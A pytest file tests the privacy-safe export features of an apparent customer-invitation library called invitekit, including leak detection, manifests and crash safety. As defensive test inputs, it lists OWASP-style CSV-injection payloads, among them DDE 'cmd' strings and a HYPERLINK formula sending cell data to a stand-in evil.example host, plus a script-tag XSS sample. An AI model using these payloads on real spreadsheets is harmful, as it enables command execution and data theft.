import contextlib
import csv
import datetime as dt
import json
import logging
import os
import random
import signal
import stat
import subprocess
import sys
import tempfile
import time
import traceback
from collections import Counter
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import invitekit as ik
from invitekit.errors import (
    ArgumentError,
    InvitekitError,
    LeakError,
    OutputError,
    PolicyError,
    SchemaError,
    SourceError,
)
from invitekit.export import (
    CHECKS,
    counts,
    frequent_values,
    new_key,
    pipeline,
    resolve_key,
    rotate_key,
    shuffle,
    stored_key,
    transform,
    verify,
    writers,
)
from invitekit.export import source as reading
from invitekit.export.customer_numbers import with_customer_numbers
from invitekit.export.manifest import path_of
from invitekit.export.source import open_source
from invitekit.export.writers import SINKS
from invitekit.io import atomic_write
from invitekit.io.digest import digest
from invitekit.io.spreadsheet_escape import FORMULA_STARTS
from invitekit.model import schema
from invitekit.privacy import ACTIONS, LEVELS, FirstOf, Key, Level, Range, Rule, Words, standard
from invitekit.privacy.actions import DERIVED, GENERAL
from invitekit.privacy.policy import TABLE
from invitekit.privacy.policy_file import HOWS
from tests.conftest import SOAK, often

AS_OF = dt.date(2026, 3, 30)
KEY = Key(bytes(range(32)))
KINDS = ("parquet", "csv", "xlsx")


def people(rows: int = 200, columns: dict | None = None) -> pl.DataFrame:
    """Records of made-up customers with values in every column."""
    made = {
        "Customer Full Name": [f"Canary Company {n} GmbH" for n in range(rows)],
        "Customer Name": [f"Ann Canary{n}" for n in range(rows)],
        "Account Name": [f"canary_{n}" for n in range(rows)],
        "Email": [f"canary.{n}@canary.example" for n in range(rows)],
        "Mobile": [f"+49 170 {1000000 + n}" for n in range(rows)],
        "Country": [("Germany", "Atlantis")[n % 2] for n in range(rows)],
        "Account Manager": [f"mgr.canary{n % 3}" for n in range(rows)],
        "Custom Tag": [("spring-sale", f"only-canary-{n}")[n % 2] for n in range(rows)],
        "Remarks": [f"call Ann Canary{n} back" if n % 3 else None for n in range(rows)],
        "Invitation Method": ["Email"] * rows,
        "Association Type": ["Reseller"] * rows,
        "Status": [("Associated", "Association failed")[n % 2] for n in range(rows)],
        "Failure Cause": [None if n % 2 == 0 else f"canary.{n}@canary.example is refused" for n in range(rows)],
        "Invitation Time": [dt.datetime(2026, 3, 2, 9, 30) + dt.timedelta(hours=n % 48) for n in range(rows)],
        "Expires At": [dt.datetime(2026, 3, 9, 9, 30)] * rows,
        "Snapshot Time": [dt.datetime(2026, 3, 23, 8, 15)] * rows,
        "Association Time": [dt.datetime(2026, 3, 5, 11, 45) if n % 2 == 0 else None for n in range(rows)],
    }
    return pl.DataFrame(made | (columns or {}))


FEW = ("record_id", "account_name", "email", "account_manager", "country", "status", "invited_at", "days_to_associate",
       "effective_status", "failure_code")  # fmt: skip
"""Columns for tests that do not need all of them; exporting all takes three times as long."""


def annotated(frame: pl.DataFrame | None = None) -> pl.DataFrame:
    return every_column().select(FEW) if frame is None else ik.annotate(ik.load(frame).records, as_of=AS_OF)


@cache
def every_column() -> pl.DataFrame:
    return annotated(people())


def read(path: Path) -> pl.DataFrame:
    if path.suffix == ".csv":
        return pl.read_csv(path, infer_schema=False)
    return pl.read_excel(path, infer_schema_length=0) if path.suffix == ".xlsx" else pl.read_parquet(path)


def left(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


@pytest.mark.parametrize("level", ["masked", "pseudonymised", "aggregated"])
@pytest.mark.parametrize("kind", KINDS)
def test_an_export_has_all_rows_and_no_personal_data(tmp_path: Path, kind: str, level: Level) -> None:
    done = ik.export(every_column(), tmp_path / f"out.{kind}", level=level)
    assert left(tmp_path) == [f"out.{kind}", f"out.{kind}.manifest.json"]
    found = read(done.path)
    assert found.height == done.rows
    assert level == "aggregated" or done.rows == 200
    assert "canary" not in str(found.rows()).lower()
    assert b"canary" not in done.path.read_bytes().lower() + done.manifest.read_bytes().lower()
    assert {stat.S_IMODE(path.stat().st_mode) for path in (done.path, done.manifest)} == {0o600}
    assert verify(done.path).sha256 == done.sha256 == digest(done.path)


def test_the_manifest_has_actions_and_checks_and_nothing_of_the_machine(tmp_path: Path) -> None:
    done = ik.export(every_column(), tmp_path / "out.parquet", key=KEY, purpose="spring-report")
    told = json.loads(done.manifest.read_text())
    assert (told["level"], told["rows"], told["key_id"]) == ("pseudonymised", 200, KEY.id)
    assert told["purpose"] == "spring-report"
    assert set(told["checks"]) == set(CHECKS) - {"formulas", "cells"}
    kind = {"from": "email", "action": "pseudonymise", "how": "", "form": "token", "prefix": "e"}
    assert told["columns"]["email"] == kind
    assert told["nulls"]["days_to_associate"] == 100
    assert str(tmp_path) not in done.manifest.read_text()
    assert KEY.text() not in done.manifest.read_text()


def test_records_of_every_engine_are_exported(tmp_path: Path) -> None:
    frame = annotated()
    taken = {
        "polars": frame, "lazy": frame.lazy(), "duckdb": duckdb.from_arrow(frame.to_arrow()),
        "pandas": frame.to_pandas(), "arrow": frame.to_arrow(), "reader": frame.to_arrow().to_reader(),
    }  # fmt: skip
    found = {
        engine: read(ik.export(one, tmp_path / f"{engine}.parquet", key=KEY).path).sort("account_name", "record_id")
        for engine, one in taken.items()
    }
    assert [engine for engine, one in found.items() if not one.equals(found["polars"])] == []
    assert found["polars"].height == 200


def test_an_export_may_have_no_records(tmp_path: Path) -> None:
    for kind in KINDS:
        done = ik.export(annotated().head(0), tmp_path / f"out.{kind}")
        assert done.rows == 0
        assert verify(done.path).rows == 0


def test_a_planned_record_is_exported_with_its_decision_and_without_its_reason_text(tmp_path: Path) -> None:
    plan = ik.plan_resends(ik.latest(every_column()), as_of=AS_OF)
    found = read(ik.export(plan, tmp_path / "out.parquet").path)
    assert set(found["decision"]) <= {value.code for value in schema.BY_NAME["decision"].values}
    assert found["customer_id"].str.contains("^c[0-9a-f]{32}$").all()
    assert set(found["attempt_no"]) == {1}
    assert not {"reason", "next_step", "rank", "chance_from", "invitation_id", "last_seen_at"} & set(found.columns)


def test_a_record_without_annotation_is_exported_with_its_failure_code(tmp_path: Path) -> None:
    found = read(ik.export(ik.load(people()).records, tmp_path / "out.parquet").path)
    assert "failure_message" not in found.columns
    assert set(found["failure_code"]) == {None, "other"}


def test_an_extra_column_stops_the_export_until_a_policy_names_it(tmp_path: Path) -> None:
    frame = annotated(people(columns={"Deal size": [str(n) for n in range(200)]}))
    with pytest.raises(PolicyError, match="Deal size"):
        ik.export(frame, tmp_path / "out.parquet")
    rules = tmp_path / "policy.toml"
    rules.write_text('[[column]]\nname = "Deal size"\naction = "keep"\nrange = [0, 100]\ninto = "deal"\n')
    found = read(ik.export(frame, tmp_path / "out.parquet", policy=rules).path)
    assert sorted(found["deal"]) == sorted(min(n, 100) for n in range(200))
    assert verify(tmp_path / "out.parquet").columns["deal"].least == 0


# -- the checks find what breaks a rule ------------------------------------------------------------------------

TRIED: list[tuple[Level, Rule]] = [
    (level, row) for level in LEVELS for row in standard(level).rows if row.action != "drop"
]
"""Every built-in rule that releases something: a new one is tried automatically."""


def same_rule(level: Level, row: Rule) -> tuple[object, ...]:
    """Return the key of rules that are written and checked in the same way."""
    return level, row.action, row.how, type(row.form), getattr(row.form, "whole", None)


FIRST = {same_rule(level, row): (level, row) for level, row in reversed(TRIED)}
WORK = [
    pytest.param(level, row, kind, id=f"{level}-{row.into}-{row.words.replace(' ', '-')}-{kind}")
    for level, row in TRIED
    for kind in KINDS
    if kind == "parquet" or FIRST[same_rule(level, row)] == (level, row)
]
EXTRA = [(action, how) for action, hows in HOWS.items() if action != "drop" for how in hows or ("",)]
"""Every action that a policy file may name, for a column of the user's own."""


@cache
def planned() -> pl.DataFrame:
    """Records with a value in every column of the policy."""
    frame = every_column()
    empty = [column.name for column in schema.RECORD if column.kind == "text" and frame[column.name].is_null().all()]
    filled = [pl.format(f"{name}{{}}", pl.col("account_name").hash()).alias(name) for name in empty]
    return ik.plan_resends(ik.resolve(frame.with_columns(filled)), as_of=AS_OF)


def with_work(frame: pl.DataFrame, level: Level, row: Rule) -> pl.DataFrame:
    """Fill the column of a rule with a value that must not be exported; for counts, the same in all records."""
    if row.how == "code":  # which is derived where nobody annotated
        frame = frame.drop("failure_code")
    kept = isinstance(row.form, Words) and row.action == "keep"
    put: Any = "call Ann Canary" if kept or row.how == "code" else None
    if isinstance(row.form, Range):
        put = row.form.most + 1
    if isinstance(row.form, FirstOf):
        put = dt.datetime(2026, 3, 2, 9, 30)
    if level == "aggregated":
        frame = frame.with_columns(invited_at=dt.datetime(2026, 3, 2, 9, 30))
    return frame if put is None else frame.with_columns(pl.lit(put).cast(frame.schema[row.column]).alias(row.column))


def mutated(column: str) -> Callable[..., pl.DataFrame]:
    """Return a ``release`` that does not change one column."""
    true = transform.release

    def leak(batch: pl.DataFrame, rows: Any, secrets: Any) -> pl.DataFrame:
        made = true(batch, rows, secrets)
        source = next((row.column for row in rows if row.into == column), None)
        return made.with_columns(batch[source].alias(column)) if source else made

    return leak


def test_every_action_and_every_column_is_tried() -> None:
    assert len(TRIED) == sum(words != "drop" for _, *levels in TABLE for words in levels)
    ways: dict[str, set[str]] = {action: set() for action in ACTIONS}
    for _, row in TRIED:
        ways[row.action].add(row.how)
    assert all(ways.values())
    assert (ways["generalise"], ways["derive"]) == (set(GENERAL), set(DERIVED))
    assert {action for action, _ in EXTRA} == set(ACTIONS)
    assert {how for action, how in EXTRA if action in ("generalise", "derive")} == {*GENERAL, *DERIVED}
    assert {kind for *_, kind in (param.values for param in WORK)} == {ending.removeprefix(".") for ending in SINKS}


@pytest.mark.parametrize(("level", "row", "kind"), WORK)
def test_an_action_that_does_nothing_is_detected(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, level: Level, row: Rule, kind: str
) -> None:
    frame = with_work(planned(), level, row)
    if level != "aggregated":
        frame = frame.select({row.column, "account_name"})
    monkeypatch.setattr(pipeline, "release", mutated(row.into))
    monkeypatch.setattr(counts, "release", mutated(row.into))
    with pytest.raises(LeakError) as refused:
        ik.export(frame, tmp_path / f"out.{kind}", level=level)
    assert refused.value.column == row.into
    assert "anary" not in str(refused.value)
    assert left(tmp_path) == []


@pytest.mark.parametrize(("action", "how"), [*EXTRA, ("keep", "range")])
def test_an_action_of_a_policy_file_that_does_nothing_is_detected(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, action: str, how: str
) -> None:
    cells: dict[str, list[Any]] = {
        "days": list(range(200)), "range": list(range(200)), "day": [dt.datetime(2026, 3, 2, 9, 30)] * 200,
    }  # fmt: skip
    cells["month"] = cells["day"]
    extra = pl.Series("Extra", cells.get(how, [f"call Ann Canary{n}" for n in range(200)]))
    frame = annotated().select("account_name", extra)
    level: Level = "masked" if how == "day" else "pseudonymised"
    more = {"range": "range = [0, 100]", "": 'values = ["gold"]' if action == "keep" else ""}
    rules = tmp_path / "policy.toml"
    lines = ['[[column]]\nname = "Extra"\ninto = "extra"', f'action = "{action}"', more.get(how, f'how = "{how}"')]
    rules.write_text("\n".join(lines))
    assert "extra" in ik.export(frame, tmp_path / "true.csv", policy=rules, level=level).columns
    before = left(tmp_path)
    monkeypatch.setattr(pipeline, "release", mutated("extra"))
    with pytest.raises(LeakError) as refused:
        ik.export(frame, tmp_path / "out.csv", policy=rules, level=level)
    assert refused.value.column == "extra"
    assert left(tmp_path) == before


CHANGES: dict[tuple[str, str], pl.Expr] = {
    ("file", "columns"): pl.col("status").alias("raw"), ("has_remarks", "types"): pl.col("has_remarks").cast(pl.Int8),
    ("invited_month", "types"): pl.col("invited_month").cast(pl.Datetime("us")),
}  # fmt: skip
"""A wrong released column for each pair of the column that the error names and the check that fails."""


@pytest.mark.parametrize("found", CHANGES)
def test_a_wrong_column_is_detected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, found: tuple[str, str]) -> None:
    true = transform.release
    monkeypatch.setattr(pipeline, "release", lambda b, r, s: true(b, r, s).with_columns(CHANGES[found]))
    with pytest.raises(LeakError) as refused:
        ik.export(every_column(), tmp_path / "out.parquet")
    assert (refused.value.column, refused.value.check) == found
    assert left(tmp_path) == []


MANY = 1_000_000 if SOAK else 2_500
"""More rows than a small frame has; outside of a soak run, such frames have a thousand rows."""


@pytest.fixture(scope="module")
def many() -> Iterator[duckdb.DuckDBPyRelation]:
    """Small records."""
    with duckdb.connect() as con:
        con.execute("set enable_progress_bar = false")
        con.execute(
            f"create table records as select 'k' || md5(i::varchar) as record_id, 'acct_' || i as account_name, "
            f"'p' || i || '@canary.example' as email, 'mgr.canary' || i % 9 as account_manager, 'Germany' as country, "
            f"'expired' as status, "
            f"timestamp '2026-03-02' + to_hours((i % 500)::int) as invited_at from range({MANY}) t(i)"
        ).fetchall()
        yield con.table("records")


SLIPS = {
    "record_id": "k0cc175b9c0f1b6a831c399e269772661", "account_name": "acct_7", "account_manager": "mgr.canary1",
    "email": "p7@canary.example", "email_kind": "p7@canary.example", "country": "acct_7", "status": "acct_7",
    "invited_month": dt.date(2026, 3, 2),
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("column", SLIPS)
def test_one_raw_value_in_one_of_many_rows_is_detected(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, many: duckdb.DuckDBPyRelation, column: str
) -> None:
    for module in () if SOAK else (reading, shuffle):
        monkeypatch.setattr(module, "BATCH_ROWS", 1_000)
    monkeypatch.setattr(shuffle, "IN_MEMORY", 0)
    true = transform.release
    slipped: list[int] = []

    def leak(batch: pl.DataFrame, rows: Any, secrets: Any) -> pl.DataFrame:
        made = true(batch, rows, secrets)
        if not slipped:
            cells = made[column].to_list()
            cells[123] = SLIPS[column]
            made = made.with_columns(pl.Series(column, cells, dtype=made.schema[column]))
        slipped.append(1)
        return made

    monkeypatch.setattr(pipeline, "release", leak)
    with pytest.raises(LeakError) as refused:
        ik.export(many, tmp_path / "out.parquet")
    assert (refused.value.column, refused.value.check, refused.value.count) == (column, "declared", 1)
    assert len(slipped) > 2
    assert left(tmp_path) == []


def test_a_raw_value_that_looks_like_a_token_is_detected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    once = read(ik.export(annotated(), tmp_path / "once.parquet").path)
    frame = annotated().with_columns(once["account_name"])
    ik.export(frame, tmp_path / "twice.parquet")
    monkeypatch.setattr(pipeline, "release", mutated("account_name"))
    with pytest.raises(LeakError) as refused:
        ik.export(frame, tmp_path / "thrice.parquet")
    assert (refused.value.column, refused.value.check) == ("account_name", "values")
    assert refused.value.count == 200


NONE = pl.lit(None, pl.String)
BAD_WRITERS: dict[str, Callable[[pl.DataFrame, Path], object]] = {
    "rows": lambda frame, part: writers.write_parquet([frame.tail(-1)], part, safe=True),
    "nulls": lambda frame, part: writers.write_parquet([frame.with_columns(status=NONE)], part, safe=True),
    "metadata": lambda frame, part: pq.write_table(frame.to_arrow().replace_schema_metadata({"pandas": "x"}), part),
    "readable": lambda frame, part: part.write_bytes(b"PAR1" + str(frame).encode() + b"PAR1"),
}
"""Writers of a wrong file, by the check that finds it."""


@pytest.mark.parametrize("check", BAD_WRITERS)
def test_a_file_with_other_content_is_detected(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, check: str) -> None:
    write = BAD_WRITERS[check]
    monkeypatch.setitem(writers.SINKS, ".parquet", lambda frames, part, **_: write(pl.concat(frames), part))
    with pytest.raises(LeakError) as refused:
        ik.export(annotated(), tmp_path / "out.parquet")
    assert refused.value.check == check
    assert "canary" not in "".join(traceback.format_exception(refused.value)).lower()
    assert left(tmp_path) == []


# -- unusual data --------------------------------------------------------------------------------------

# CSV injection, from OWASP, and known ways around filters.
PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=1+1;", '"=1+1"', "'=1+1", " =1+1", "＝1+1", "=1+1\n=2",
    "\n=1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "''=1+1",
)  # fmt: skip


@pytest.mark.parametrize(
    ("kind", "level"), [("parquet", "pseudonymised"), ("csv", "pseudonymised"), ("csv", "masked"), ("xlsx", "masked")]
)
def test_no_cell_of_an_export_runs_in_a_spreadsheet(tmp_path: Path, kind: str, level: Level) -> None:
    rows = len(PAYLOADS) * 12
    texts = [PAYLOADS[n % len(PAYLOADS)] for n in range(rows)]
    frame = annotated(people(rows))
    frame = frame.with_columns(
        pl.Series(name, texts) for name, kind in frame.schema.items() if kind == pl.String and name != "record_id"
    )
    rules = tmp_path / "policy.toml"
    rules.write_text('[[column]]\nname = "=tier"\naction = "keep"\nvalues = ["=1+1", "-2", "gold"]\n')
    frame = frame.with_columns(pl.Series("=tier", (["=1+1", "-2", "gold", None] * rows)[:rows]))
    # Each row has its own account, so that frequent tags are frequent among customers.
    frame = frame.with_columns(account_name=pl.Series([f"{text}{n}" for n, text in enumerate(texts)]))
    secret = ["customer_full_name", "customer_name", "email", "mobile", "account_manager"]
    frame = frame.with_columns(pl.lit("x").alias(name) for name in secret)
    done = ik.export(frame, tmp_path / f"out.{kind}", policy=rules, level=level)
    cells = [cell for row in read(done.path).rows() for cell in row if isinstance(cell, str)]
    if kind == "csv":
        with done.path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert any("1+1" in cell for cell in cells)
    assert verify(done.path).rows == rows
    back = ik.load(done.path).records
    assert set(back["=tier" if "=tier" in back.columns else "'=tier"]) == {"=1+1", "-2", "gold", None}


ODD = ("A", "李", "<script>alert(1)</script>", "\u202eevil\u202c", "عميل", "PENDING", "email", "associated", "other",
       "***x", "0")  # fmt: skip


def test_a_customer_may_have_any_name(tmp_path: Path) -> None:
    each = 20  # records with an odd tag, and more than enough customers of it without an odd name
    frame = annotated(people(each * len(ODD)))
    odd = pl.Series([name for name in ODD for _ in range(each)])
    names = ["customer_full_name", "customer_name", "account_name", "email", "account_manager"]
    is_name = pl.int_range(pl.len()) % each < 3
    frame = frame.with_columns(pl.when(is_name).then(odd).otherwise(name).alias(name) for name in names)
    frame = frame.with_columns(custom_tag=odd, remarks=odd, failure_message=odd)
    found = read(ik.export(frame, tmp_path / "out.xlsx").path)
    assert found.height == each * len(ODD)
    assert set(found["custom_tag"]) == {"other"}, "a tag that is somebody's name does not leave"
    cells = {str(cell) for row in found.rows() for cell in row}
    assert cells & set(ODD) == {"email", "associated", "other"}, "words of fixed lists"


def test_categorical_columns_do_not_contain_values_of_other_records(tmp_path: Path) -> None:
    frame = every_column()
    for name in ("status", "custom_tag", "country", "account_manager", "customer_name"):
        values = [*frame[name].drop_nulls().unique(), "canary-not-exported"]
        cast = pl.Enum(values) if name != "custom_tag" else pl.Categorical()
        frame = frame.with_columns(pl.col(name).cast(cast))
    for taken in (frame, frame.to_arrow(), duckdb.from_arrow(frame.to_arrow())):
        done = ik.export(taken, tmp_path / "out.parquet", overwrite=True)
        assert b"canary" not in done.path.read_bytes()
        assert set(pl.read_parquet_schema(done.path).values()) == {pl.String(), pl.Date(), pl.Boolean()}
        assert not any(pa.types.is_dictionary(field.type) for field in pq.read_schema(done.path))
        assert pq.read_metadata(done.path).metadata is None


def test_times_with_a_zone_are_exported_as_months_in_utc(tmp_path: Path) -> None:
    at = dt.datetime(2026, 2, 28, 23, 30, tzinfo=dt.timezone(dt.timedelta(hours=-5)))
    frame = annotated().with_columns(invited_at=pl.lit(at).dt.convert_time_zone("Asia/Shanghai"))
    for taken in (frame, duckdb.from_arrow(frame.to_arrow())):
        found = read(ik.export(taken, tmp_path / "out.parquet", overwrite=True).path)
        assert set(found["invited_month"]) == {dt.date(2026, 3, 1)}


# -- counts ----------------------------------------------------------------------------------------


def cells(sizes: dict[str, int]) -> pl.DataFrame:
    """Return two records for each customer, with numbers of customers by status."""
    rows = [(f"c{status}{n // 2}", status) for status, size in sizes.items() for n in range(2 * size)]
    return pl.DataFrame(rows, schema=["account_name", "effective_status"], orient="row")


def test_cells_of_few_customers_are_left_out_even_with_many_records(tmp_path: Path) -> None:
    frame = cells({"associated": 30, "expired": 10, "invited": 9, "pre_registered": 9})
    done = ik.export(
        frame.with_columns(remarks=pl.lit("x")), tmp_path / "out.parquet", level="aggregated", remarks="scrub"
    )
    assert {row[0]: row[1:] for row in read(done.path).rows()} == {"associated": (60, 30), "expired": (20, 10)}
    assert json.loads(done.manifest.read_text())["remarks"] == "drop"  # counts have no remarks


def test_counts_without_a_large_enough_cell_are_rejected(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="10 customers"):
        ik.export(cells({"associated": 9, "expired": 9}), tmp_path / "out.csv", level="aggregated")
    with pytest.raises(OutputError, match="have no known customer"):
        ik.export(pl.DataFrame({"effective_status": ["expired"] * 50}), tmp_path / "out.csv", level="aggregated")
    assert left(tmp_path) == []


# -- joins and reading back ------------------------------------------------------------------------


def test_two_exports_with_one_key_join_as_the_raw_records_do(tmp_path: Path) -> None:
    joined = ["account_name", "email", "mobile", "customer_full_name", "account_manager"]
    new = every_column().select(joined)
    old, new = new[:150], new[40:]
    for name, frame in (("old", old), ("new", new)):
        ik.export(frame, tmp_path / f"{name}.parquet", key=KEY)
    tokens = [read(tmp_path / f"{name}.parquet") for name in ("old", "new")]
    for column in joined:
        raw = old.join(new, on=column).height
        assert raw > 0
        assert tokens[0].join(tokens[1], on=column).height == raw
        assert tokens[0][column].n_unique() == old[column].n_unique()
    ik.export(new, tmp_path / "thrown.parquet")
    assert tokens[0].join(read(tmp_path / "thrown.parquet"), on="account_name").height == 0


@pytest.mark.parametrize("kind", KINDS)
def test_our_own_exports_are_read_back(tmp_path: Path, kind: str) -> None:
    frame = annotated()
    loaded = ik.load(ik.export(frame, tmp_path / f"tokens.{kind}").path)
    assert (loaded.summary.records, loaded.summary.rejects) == (200, 0)
    assert sum(column.masked for column in loaded.summary.masked.values()) == 0
    back = loaded.records
    assert Counter(back["status"]) == Counter(frame["status"])
    assert back["account_name"].n_unique() == 200
    masked = ik.load(ik.export(frame, tmp_path / f"masked.{kind}", level="masked").path)
    assert (masked.summary.records, masked.summary.rejects) == (200, 0)
    assert Counter(masked.records["invited_at"].dt.date()) == Counter(frame["invited_at"].dt.date())
    assert masked.records["record_id"].n_unique() == 200


def test_masked_values_become_null_and_are_counted(tmp_path: Path) -> None:
    frame = annotated(people(columns={"Customer Name": ["T***m"] * 200}))
    done = ik.export(frame, tmp_path / "out.parquet")
    assert done.nulled == {"customer_name": 200}
    assert read(done.path)["customer_name"].null_count() == 200


# -- targets ------------------------------------------------------------------------------


def test_a_file_is_replaced_only_with_overwrite_and_a_source_never(tmp_path: Path) -> None:
    source = tmp_path / "source.csv"
    people().write_csv(source)
    before = source.read_bytes()
    with pytest.raises(OutputError, match="exists already"):
        ik.export(annotated(), source)
    with pytest.raises(OutputError, match="source of this very run"):
        ik.export(annotated(), source, overwrite=True, sources=[source])
    page = path_of(tmp_path / "out.csv")
    page.write_text("mine")
    with pytest.raises(OutputError, match=r"out\.csv\.manifest\.json"):
        ik.export(annotated(), tmp_path / "out.csv")
    assert (source.read_bytes(), page.read_text()) == (before, "mine")
    ik.export(annotated(), tmp_path / "out.csv", overwrite=True)
    assert verify(tmp_path / "out.csv").rows == 200


@pytest.mark.parametrize("how", ["cut", "changed", "no manifest", "another manifest", "a forged manifest"])
def test_a_changed_file_is_rejected(tmp_path: Path, how: str) -> None:
    done = ik.export(annotated(), tmp_path / "out.csv")
    text = done.path.read_text("utf-8")
    told = json.loads(done.manifest.read_text())
    if how == "cut":
        done.path.write_text(text[: len(text) // 2], "utf-8")
    elif how == "changed":
        done.path.write_text(text.replace("other", "Atlantis", 1), "utf-8")
    elif how == "no manifest":
        done.manifest.unlink()
    elif how == "another manifest":
        done.manifest.write_text("{}")
    else:
        done.path.write_text(text.replace("other", "Atlantis", 1), "utf-8")
        done.manifest.write_text(json.dumps(told | {"sha256": digest(done.path)}))
    with pytest.raises((LeakError, SourceError)) as refused:
        verify(done.path)
    assert not [word for word in ("Atlantis", "no file was written") if word in str(refused.value)]


@pytest.mark.parametrize(("step", "error"), [("file", OSError), ("manifest", KeyboardInterrupt)])
def test_an_export_that_stops_before_its_manifest_leaves_the_earlier_one_or_none(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, step: str, error: type[BaseException]
) -> None:
    target = tmp_path / "out.csv"
    true = atomic_write.publish

    def stop(part: Path, to: Path, *, overwrite: bool) -> None:
        if (to == target) == (step == "file"):
            raise error
        true(part, to, overwrite=overwrite)

    with monkeypatch.context() as full:
        full.setattr(pipeline, "publish", stop)
        with pytest.raises((KeyboardInterrupt, OutputError)):
            ik.export(annotated(), target)
    assert left(tmp_path) == []
    first, itself = ik.export(annotated(), target), target.stat()
    monkeypatch.setattr(pipeline, "publish", stop)
    with pytest.raises((KeyboardInterrupt, OutputError)):
        ik.export(annotated(), target, overwrite=True)
    assert left(tmp_path) == ["out.csv", "out.csv.manifest.json"]
    assert verify(target).sha256 == first.sha256
    assert os.path.samestat(target.stat(), itself), "the earlier file itself, and no copy"


def test_progress_counts_rows_up_to_all_of_them(tmp_path: Path) -> None:
    told: list[tuple[str, int, int]] = []
    ik.export(annotated(), tmp_path / "out.parquet", progress=lambda *now: told.append(now))
    assert told[0] == ("writing", 0, 200)
    assert told[-2:] == [("writing", 200, 200), ("proving", 200, 200)]


def test_a_folder_that_allows_no_new_file_is_a_clear_error() -> None:
    gone = Path("/proc/self/out.csv")  # no file can be made there, not even by root
    with pytest.raises(OutputError, match=r"'out.csv' cannot be written|cannot be written to"):
        ik.export(annotated(), gone)


KILLED_ROWS = 1_000
ZYGOTE = """
import os, sys
import pandas, polars as pl
from invitekit.export import export
for line in sys.stdin:
    if not (pid := os.fork()):
        export(pl.read_parquet(sys.argv[1]), sys.argv[2], overwrite=True)
        os._exit(0)
    print(pid, flush=True)
    print(os.waitpid(pid, 0)[1], flush=True)
"""
"""A process with all imports and without threads, so that its forks start quickly."""


def state(target: Path) -> str:
    """Return the files of a killed export; a file without a manifest is also complete."""
    if not target.exists():
        return "none" if not path_of(target).exists() else "torn"
    files = [path.stat() for path in (target, path_of(target)) if path.exists()]
    return _state(target, tuple((file.st_ino, file.st_mtime_ns) for file in files))


@cache
def _state(target: Path, _files: tuple[tuple[int, int], ...]) -> str:
    """Check the same files once: most kills come before they are replaced."""
    if pl.read_parquet(target).height != KILLED_ROWS:
        return "torn"
    try:
        verify(target)
    except SourceError:
        return "without manifest"
    return "whole"


KILLS = often(60, 12)


@pytest.mark.slow
def test_a_kill_at_any_moment_leaves_a_whole_export_or_none(tmp_path: Path) -> None:
    source, target, dice = tmp_path / "in.parquet", tmp_path / "out" / "out.parquet", random.Random(7)
    annotated(people(KILLED_ROWS)).select(FEW).write_parquet(source)
    target.parent.mkdir()
    command = [sys.executable, "-c", ZYGOTE, str(source), str(target)]
    found, killed = Counter[str](), 0
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as zygote:
        assert zygote.stdin
        assert zygote.stdout
        length = 0.0
        for number in range(KILLS + 1):
            zygote.stdin.write("go\n")
            zygote.stdin.flush()
            pid, began = int(zygote.stdout.readline()), time.perf_counter()
            if number:
                time.sleep(dice.uniform(0, 1.1 * length))
                with contextlib.suppress(ProcessLookupError):  # it was quicker
                    os.kill(pid, signal.SIGKILL)
            killed += int(zygote.stdout.readline()) == signal.SIGKILL
            length = length or time.perf_counter() - began
            found[state(target)] += 1
            if number % 2:
                target.unlink(missing_ok=True)
                path_of(target).unlink(missing_ok=True)
        zygote.stdin.close()
    assert killed > KILLS / 2
    assert found["torn"] == 0, found
    assert found["none"] > KILLS / 5, found
    ik.export(pl.read_parquet(source), target, overwrite=True)
    assert not [path for path in target.parent.iterdir() if path.is_dir() and any(path.iterdir())]
    assert state(target) == "whole"


# -- texts of errors and logs ----------------------------------------------------------------------


def held(error: BaseException | None) -> str:
    """Return all texts of an error and its causes."""
    told = []
    while error:
        told.append(repr(error))
        error = error.__cause__ or error.__context__
    return "\n".join(told)


SPOILT: dict[str, Callable[[pl.DataFrame], Any]] = {
    "text for a number": lambda frame: frame.with_columns(days_to_associate=pl.lit("canary.9@canary.example")),
    "a lazy frame that fails": lambda frame: frame.lazy().with_columns(pl.col("email").cast(pl.Int64)),
    "text for a time": lambda frame: frame.with_columns(invited_at=pl.lit("call Ann Canary")),
    "list": lambda frame: frame.with_columns(status=pl.Series([["Ann Canary"]] * 200)),
    "a query that fails": lambda frame: duckdb.from_arrow(frame.to_arrow()).project("* replace (email::int as email)"),
    "a column that nobody named": lambda frame: frame.with_columns(pl.lit("Ann Canary").alias("ann@canary.example")),
    "no frame": lambda _: ["Ann Canary"],
}
"""Records that cannot be exported for several reasons, with personal data in every cell."""


@pytest.mark.parametrize("how", SPOILT)
def test_an_error_quotes_no_cell_and_no_key_and_leaves_nothing(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str], how: str
) -> None:
    caplog.set_level(logging.DEBUG)
    with pytest.raises(InvitekitError) as refused:
        ik.export(SPOILT[how](annotated()), tmp_path / "out.parquet", key=KEY)
    told = "".join(traceback.format_exception(refused.value)) + caplog.text + "".join(capfd.readouterr())
    # The traceback shows lines of this test; other texts must not be from a cell.
    said = str(refused.value) + held(refused.value) + caplog.text + told.rpartition("InvitekitError")[2]
    assert how == "no frame" or refused.value.__context__ is None, "no error of an engine travels with ours"
    assert "Hint: " in str(refused.value)
    assert not any(word in said for word in ("Ann Canary", "canary.", KEY.text()))
    assert left(tmp_path) == []


def test_a_good_export_logs_nothing_of_a_record_nor_of_the_key(
